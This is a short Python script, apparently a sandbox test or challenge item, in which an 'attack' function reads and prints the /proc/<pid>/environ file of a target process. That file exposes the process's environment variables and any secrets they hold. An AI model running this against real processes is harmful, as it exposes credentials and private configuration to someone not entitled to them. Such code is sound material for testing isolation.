from inside import run, show


def attack(target):
    with open(f"/proc/{target.pid}/environ", "rb") as file:
        show(file.read())


run(attack)
